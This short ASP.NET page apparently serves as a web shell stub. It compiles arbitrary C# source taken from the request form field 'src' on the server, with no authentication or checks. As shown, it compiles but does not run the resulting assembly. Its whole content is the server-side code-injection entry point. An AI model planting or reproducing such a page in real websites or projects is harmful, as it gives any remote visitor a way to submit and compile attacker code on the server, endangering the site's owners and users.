<%@ Page Language="C#" %>
<%
var p = new Microsoft.CSharp.CSharpCodeProvider();
var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]);
%>
